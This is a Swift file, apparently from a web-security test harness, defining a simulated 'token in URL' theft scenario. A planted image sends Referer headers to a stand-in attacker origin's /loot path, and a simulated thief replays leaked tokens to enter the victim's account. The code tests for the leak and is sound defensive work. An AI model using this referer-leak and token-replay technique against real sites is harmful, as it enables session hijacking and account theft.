extension Attack {
    static let tokenInURL = Attack(
        name: "token-in-url", title: "Token in URL", family: .theft
    ) { scene in
        scene.target.pages[scene.host].picture = "\(scene.attackerOrigin)/loot/\(scene.name)"
        try await scene.logIn()
        var gotIn = false
        // The token in the newest log entry may expire before the thief uses it: then the next one is tried.
        for _ in 0..<3 where !gotIn {
            try await scene.openStatement()
            let log = scene.target.log.of(host: scene.host).map(\.address)
            var thief = Thief(scene, loot: (log + scene.attacker.loot(of: scene.name)).joined(separator: "\n"))
            gotIn = try await thief.readsSecret()
        }
        let referers = Set(scene.attacker.loot(of: scene.name)).filter { !$0.isEmpty }
        return .of(
            gotIn,
            [
                gotIn ? "a token in the log opened the account from another machine" : "no URL contained a token",
                "the Referer that an image on another host received was " + scene.description(of: referers),
            ])
    }
}

extension Scene {
    /// Opens the victim's statement in a frame of the page.
    fileprivate func openStatement() async throws {
        let before = served("/api/statement")
        try await browser.click("#statement")
        try await wait("the statement, with its image") {
            served("/api/statement") > before && !attacker.loot(of: name).isEmpty
        }
    }

    /// Without the origin, which is different in each cell.
    fileprivate func description(of referers: Set<String>) -> String {
        if referers.isEmpty { return "empty" }
        return referers == [origin + "/"] ? "the page's origin" : referers.sorted().joined(separator: ", ")
    }

    private func served(_ path: String) -> Int {
        requests("GET", path).count { $0.status == 200 }
    }
}
